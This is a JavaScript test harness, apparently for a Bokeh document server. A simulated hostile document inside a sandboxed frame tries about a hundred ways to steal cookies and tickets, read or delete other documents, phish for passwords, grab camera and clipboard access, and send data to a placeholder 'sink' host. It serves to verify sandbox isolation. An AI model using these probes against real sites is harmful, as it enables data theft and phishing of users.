// What a hostile document tries, as the code of a callback. What an attempt got starts with `got`;
// `server`, `docid`, `other`, `sink` and `own_script` come before it.

const got = (value) => `got ${value}`
const settled = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, 3000, "silence"))])
const answer = async (url, options = {}) =>
  got((await fetch(url, {credentials: "include", ...options})).type)
const loads = (name, fields) => new Promise((resolve, reject) => {
  const element = Object.assign(document.createElement(name), fields)
  element.onload = () => resolve(got("load"))
  element.onerror = () => reject(new Error("no load"))
  document.body.append(element)
})
const socket = (url, protocols) => new Promise((resolve, reject) => {
  const made = new WebSocket(url, protocols)
  made.onopen = () => resolve(got("open"))
  made.onerror = () => reject(new Error("no socket"))
})
const made = (kind, text) => URL.createObjectURL(new Blob([text], {type: kind}))
const style = (text) => {
  const element = document.createElement("style")
  element.textContent = text
  document.body.append(element)
}
const here = new URL(location.href).origin
const body = JSON.stringify({title: "made by a hostile document"})
const {ticket} = bokeh_server_session
const attempts = {
  cookie: () => got(document.cookie),
  set_cookie: () => { document.cookie = "planted=1"; return got("set") },
  cookie_store: async () => got(JSON.stringify(await cookieStore.getAll())),
  local_storage: () => got(localStorage.length),
  session_storage: () => got(sessionStorage.length),
  database: () => new Promise((resolve, reject) => {
    const asked = indexedDB.open("x")
    asked.onsuccess = () => resolve(got("database"))
    asked.onerror = () => reject(asked.error)
  }),
  caches: async () => got(await caches.keys()),
  service_worker: async () => got(await navigator.serviceWorker.register(own_script)),
  shared_worker: () => new Promise((resolve, reject) => {
    const worker = new SharedWorker(own_script)
    worker.onerror = () => reject(new Error("no worker"))
  }),
  shell_document: () => got(parent.document.title),
  shell_address: () => got(parent.location.href),
  shell_storage: () => got(parent.localStorage),
  shell_frame_element: () => got(window.frameElement.id),
  nested: () => {
    const nested = document.createElement("iframe")
    document.body.append(nested)
    return got(nested.contentWindow.document.title + nested.contentWindow.RTCPeerConnection)
  },
  who_am_i: () => answer(`${server}/bokeh/userinfo/`),
  my_ticket: () => answer(`${server}/bokeh/doc/${docid}/ticket?kind=frame`),
  other_document: () => answer(`${server}/bokeh/doc/${other}/content`),
  other_by_ticket: () => answer(`${server}/bokeh/doc/${other}/content`, {headers: {"Bokeh-Ticket": ticket}}),
  make: () => answer(`${server}/bokeh/doc/`, {method: "POST", body}),
  make_blind: () => answer(`${server}/bokeh/doc/`, {method: "POST", body, mode: "no-cors"}),
  make_beacon: () => { navigator.sendBeacon(`${server}/bokeh/doc/`, body) },
  remove: () => answer(`${server}/bokeh/doc/${other}/`, {method: "DELETE"}),
  own_content_by_cookie: async () => got((await fetch(`${server}/bokeh/doc/${docid}/content`, {credentials: "include"})).status),
  other_socket: () => socket(`${server}/bokeh/doc/${other}/ws`.replace("http", "ws"), ["bokeh", ticket]),
  index_socket: () => socket(`${server}/bokeh/ws`.replace("http", "ws"), []),
  own_socket_without: () => socket(`${server}/bokeh/doc/${docid}/ws`.replace("http", "ws"), ["bokeh"]),
  autoload: () => loads("script", {src: `${server}/bokeh/autoload.js/a?docid=${other}&modelid=secret`}),
  own_image: () => loads("img", {src: `${server}/bokeh/doc/${other}/content`}),
  fetch_out: () => answer(`${sink}/fetch`, {mode: "no-cors"}),
  xhr: () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest()
    request.onload = () => resolve(got("load"))
    request.onerror = () => reject(new Error("no load"))
    request.open("GET", `${sink}/xhr`)
    request.send()
  }),
  beacon: () => navigator.sendBeacon(`${sink}/beacon`, "x") && "queued",
  event_source: () => new Promise((resolve, reject) => {
    const source = new EventSource(`${sink}/events`)
    source.onerror = () => { source.close(); reject(new Error("no events")) }
  }),
  socket_out: () => socket(`${sink}/socket`.replace("http", "ws")),
  transport: async () => got(await new WebTransport(sink.replace("http:", "https:")).ready),
  image: () => loads("img", {src: `${sink}/image?secret`}),
  script: () => loads("script", {src: `${sink}/script.js`}),
  module: async () => got(await import(`${sink}/module.js`)),
  style_sheet: () => loads("link", {rel: "stylesheet", href: `${sink}/style.css`}),
  prefetch: () => loads("link", {rel: "prefetch", href: `${sink}/prefetch`}),
  preload: () => loads("link", {rel: "preload", as: "image", href: `${sink}/preload`}),
  module_preload: () => loads("link", {rel: "modulepreload", href: `${sink}/modulepreload`}),
  manifest: () => { document.head.append(Object.assign(document.createElement("link"), {rel: "manifest", href: `${sink}/m`})) },
  import_rule: () => style(`@import "${sink}/import.css"; body { background: url(${sink}/background) }`),
  font: async () => got(await new FontFace("x", `url(${sink}/font)`).load()),
  media: () => loads("video", {src: `${sink}/video`}),
  object: () => { loads("object", {data: `${sink}/object`}).catch(() => {}) },
  embed: () => { loads("embed", {src: `${sink}/embed`}).catch(() => {}) },
  inner_frame: () => { loads("iframe", {src: `${sink}/frame`}).catch(() => {}) },
  inner_document: () => { loads("iframe", {srcdoc: `<img src="${sink}/srcdoc"><script>parent.parent.postMessage(1, "*")</script>`}).catch(() => {}) },
  preconnect: () => {
    for (const rel of ["dns-prefetch", "preconnect"]) {
      document.head.append(Object.assign(document.createElement("link"), {rel, href: sink}))
    }
  },
  speculation: () => {
    const rule = [{source: "list", urls: [`${sink}/speculation`]}]
    document.head.append(Object.assign(document.createElement("script"), {
      type: "speculationrules", textContent: JSON.stringify({prefetch: rule, prerender: rule}),
    }))
  },
  markup: () => {
    document.body.insertAdjacentHTML("beforeend", `
      <svg><use href="${sink}/use#a"/><image href="${sink}/svg"/></svg>
      <audio controls><source src="${sink}/audio"><track src="${sink}/track" default></audio>
      <input type="image" src="${sink}/input"><object data="${sink}/object"></object>`)
  },
  rules: () => style(`body { cursor: url(${sink}/a), auto; mask-image: url(${sink}/b);
    filter: url(${sink}/c#a); border-image: url(${sink}/d) 1 } body::after { content: url(${sink}/e) }`),
  worklet: async () => got(await new AudioContext().audioWorklet.addModule(`${sink}/worklet.js`)),
  worker_scripts: () => {
    for (const [text, type] of [[`importScripts("${sink}/i")`, "classic"], [`import("${sink}/m")`, "module"],
      [`new WebSocket("${sink.replace("http", "ws")}/w")`, "classic"]]) {
      new Worker(made("text/javascript", text), {type})
    }
  },
  later: () => { fetchLater(`${sink}/later`) },
  worker: () => new Promise((resolve, reject) => {
    const worker = new Worker(made("text/javascript",
      `fetch("${sink}/worker", {mode: "no-cors"}).then(() => postMessage("got out"), () => postMessage("refused"))`))
    worker.onmessage = ({data}) => resolve(data)
    worker.onerror = () => reject(new Error("no worker"))
  }),
  form: () => {
    const form = Object.assign(document.createElement("form"), {action: `${sink}/form`, method: "post"})
    document.body.append(form)
    form.submit()
  },
  open_window: () => { if (window.open(`${sink}/window`) != null) return got("a window") },
  link_out: () => {
    for (const target of ["_blank", "_top", "_parent"]) {
      const link = Object.assign(document.createElement("a"), {href: `${sink}/link`, target, ping: `${sink}/ping`})
      document.body.append(link)
      link.click()
    }
  },
  top: () => { top.location = `${sink}/top`; return got("no refusal") },
  top_by_replace: () => { top.location.replace(`${sink}/replace`); return got("no refusal") },
  close_shell: () => { top.close() },
  dialog: () => { if (confirm("Your password, please") || prompt("password")) return got("a dialog") },
  peer: () => got(new RTCPeerConnection({iceServers: [{urls: `stun:${sink.slice(7)}`}]})),
  full_api: () => got(parent.fetch),
  // the addresses of the frame's own host, which is another one where frames have theirs
  frame_host: () => answer(`${here}/bokeh/userinfo/`),
  frame_host_ticket: () => answer(`${here}/bokeh/doc/${docid}/ticket?kind=frame`),
  frame_host_image: () => loads("img", {src: `${here}/bokeh/doc/${other}/content`}),
  spent_ticket: async () => {
    const {status} = await fetch(`${here}/bokeh/doc/${docid}/content`, {headers: {"Bokeh-Ticket": ticket}})
    if (status !== 401) return got(status)
  },
  spent_socket: () => socket(`${here}/bokeh/doc/${docid}/ws`.replace("http", "ws"), ["bokeh", ticket]),
  domain: () => { document.domain = location.hostname; return got(document.domain) },
  referrer: () => { if (document.referrer) return got(document.referrer) },
  base: () => {
    document.head.append(Object.assign(document.createElement("base"), {href: sink}))
    if (document.baseURI.startsWith(sink)) return got(document.baseURI)
  },
  other_address: () => { history.pushState(null, "", `${sink}/`); return got(location.href) },
  locks: async () => got(await navigator.locks.request("x", () => "a lock")),
  files: async () => got(await navigator.storage.getDirectory()),
  persist: async () => (await navigator.storage.persist()) && got("space"),
  buckets: async () => got(await navigator.storageBuckets.open("x")),
  shared_storage: async () => got(await sharedStorage.set("x", "1")),
  more_storage: async () => got(await document.requestStorageAccess()),
  memory: async () => got(await performance.measureUserAgentSpecificMemory()),
  topics: async () => got(await document.browsingTopics()),
  private_token: () => answer(sink, {privateToken: {version: 1, operation: "token-request"}}),
  attribution: () => loads("img", {attributionSrc: `${sink}/attribution`, src: "data:,"}),
  notify: async () => { if (await Notification.requestPermission() === "granted") return got("granted") },
  credentials: async () => { if (await navigator.credentials.get({password: true})) return got("a password") },
  payment: async () => got(await new PaymentRequest([{supportedMethods: `${sink}/pay`}],
    {total: {label: "x", amount: {currency: "EUR", value: "1"}}}).canMakePayment()),
  camera: async () => got(await navigator.mediaDevices.getUserMedia({video: true, audio: true})),
  screen: async () => got(await navigator.mediaDevices.getDisplayMedia()),
  place: () => new Promise((resolve, reject) => {
    navigator.geolocation.getCurrentPosition(() => resolve(got("a place")), (error) => reject(new Error(error.message)))
  }),
  clipboard: async () => got(await navigator.clipboard.readText()),
  devices: async () => got(await Promise.any(["usb", "hid", "serial", "bluetooth"].map(
    async (name) => navigator[name][name === "serial" ? "requestPort" : "requestDevice"]({filters: [], acceptAllDevices: true})))),
  midi: async () => got(await navigator.requestMIDIAccess()),
  fonts: async () => got(await queryLocalFonts()),
  screens: async () => got(await getScreenDetails()),
  wake: async () => got(await navigator.wakeLock.request("screen")),
  pointer: async () => { await document.body.requestPointerLock(); return got(document.pointerLockElement) },
  presentation: async () => got(await new PresentationRequest(`${sink}/present`).getAvailability()),
  share: async () => got(await navigator.share({url: sink})),
  protocol: () => { navigator.registerProtocolHandler("web+x", `${server}/%s`); return got("a protocol") },
  picker: async () => got(await showOpenFilePicker()),
  saver: async () => got(await showSaveFilePicker()),
  own_policy: () => {
    const policy = `img-src 'none'; report-uri ${sink}/report; report-to x`
    document.head.append(Object.assign(document.createElement("meta"),
      {httpEquiv: "Content-Security-Policy-Report-Only", content: policy}))
    document.body.append(Object.assign(document.createElement("img"), {src: "data:,x"}))
  },
  import_map: async () => {
    document.head.append(Object.assign(document.createElement("script"),
      {type: "importmap", textContent: JSON.stringify({imports: {out: `${sink}/mapped.js`}})}))
    return got(await import("out"))
  },
  inline_script: () => {
    document.head.append(Object.assign(document.createElement("script"), {textContent: "window.inline_ran = true"}))
    if (window.inline_ran) return got("an inline script")
  },
  script_address: () => {
    location.href = "javascript:window.address_ran = true"
    return new Promise((done) => setTimeout(() => done(window.address_ran && got("it ran")), 300))
  },
  transform: () => {
    const parse = (text) => new DOMParser().parseFromString(text, "text/xml")
    const made = new XSLTProcessor()
    made.importStylesheet(parse(`<s:stylesheet xmlns:s="http://www.w3.org/1999/XSL/Transform" version="1.0">
      <s:import href="${sink}/import.xsl"/><s:template match="/"><s:copy-of select="document('${sink}/x.xml')"/>
      </s:template></s:stylesheet>`))
    made.transformToFragment(parse("<a/>"), document)
  },
  data_worker: () => new Promise((resolve, reject) => {
    const worker = new Worker("data:text/javascript,postMessage(1)")
    worker.onmessage = () => resolve(got("a worker"))
    worker.onerror = () => reject(new Error("no worker"))
  }),
  worker_socket: () => new Promise((resolve, reject) => {
    const address = `${server}/bokeh/doc/${other}/ws`.replace("http", "ws")
    const worker = new Worker(made("text/javascript", `const made = new WebSocket("${address}", ["bokeh", "${ticket}"])
      made.onopen = () => postMessage("got open"); made.onerror = () => postMessage("refused")`))
    worker.onmessage = ({data}) => resolve(data)
    worker.onerror = () => reject(new Error("no worker"))
  }),
  pristine: () => {
    for (const [name, fields] of [["object", {data: "about:blank"}], ["embed", {src: "about:blank"}],
      ["iframe", {src: "javascript:1"}], ["iframe", {src: made("text/html", "x")}], ["iframe", {srcdoc: "x"}],
      ["fencedframe", {}], ["frame", {}], ["portal", {}]]) {
      const element = Object.assign(document.createElement(name), fields)
      document.body.append(element)
      const inside = element.contentWindow ?? element.getSVGDocument?.()?.defaultView
      if (inside?.RTCPeerConnection) return got(name)
    }
  },
  peer_parts: () => got(new RTCIceTransport()),
  other_targets: () => {
    for (const target of ["_top", "_parent", "frame", "_unfencedTop"]) {
      const form = Object.assign(document.createElement("form"), {action: `${sink}/form`, target})
      document.body.append(form)
      form.requestSubmit()
      if (window.open(`${sink}/open`, target) != null) return got(target)
    }
  },
  more_markup: () => {
    document.head.insertAdjacentHTML("beforeend", `<link rel="icon" href="${sink}/icon">
      <link rel="apple-touch-icon" href="${sink}/touch"><link rel="compression-dictionary" href="${sink}/words">
      <link rel="prerender" href="${sink}/prerender"><link rel="next" href="${sink}/next">
      <link rel="preload" as="fetch" href="${sink}/fetched"><link rel="search" href="${sink}/search">`)
    document.body.insertAdjacentHTML("beforeend", `<svg><filter id="f"><feImage href="${sink}/fe"/></filter>
      <rect filter="url(#f)" width="9" height="9"/><a href="${sink}/a"><animate attributeName="href" to="${sink}/b"/></a>
      <script href="${sink}/svg.js"></script></svg><img srcset="${sink}/set 2x"><picture><source srcset="${sink}/source">
      <img src="data:,"></picture><video poster="${sink}/poster"></video><body background="${sink}/old">
      <table background="${sink}/table"><tr><td>x</table>      <math href="${sink}/math"></math><details open ontoggle="window.inline_ran = true"></details>`)
    style(`body { list-style: image-set(url(${sink}/s) 1x); shape-outside: url(${sink}/shape);
      background: -webkit-image-set(url(${sink}/w) 1x) } @namespace url(${sink}/n);
      @font-face { font-family: y; src: url(${sink}/face) } p { font-family: y } `)
  },
  looser_policy: () => {
    document.head.append(
      Object.assign(document.createElement("meta"), {httpEquiv: "Content-Security-Policy", content: "default-src *"}),
      Object.assign(document.createElement("meta"), {name: "referrer", content: "unsafe-url"}),
      Object.assign(document.createElement("meta"), {httpEquiv: "x-dns-prefetch-control", content: "on"}))
    return answer(`${sink}/looser`, {mode: "no-cors"})
  },
}
const found = {}
for (const [name, attempt] of Object.entries(attempts)) {
  try {
    found[name] = String(await settled(attempt()))
  } catch (error) {
    found[name] = `refused: ${error.message}`
  }
}
window.found = found
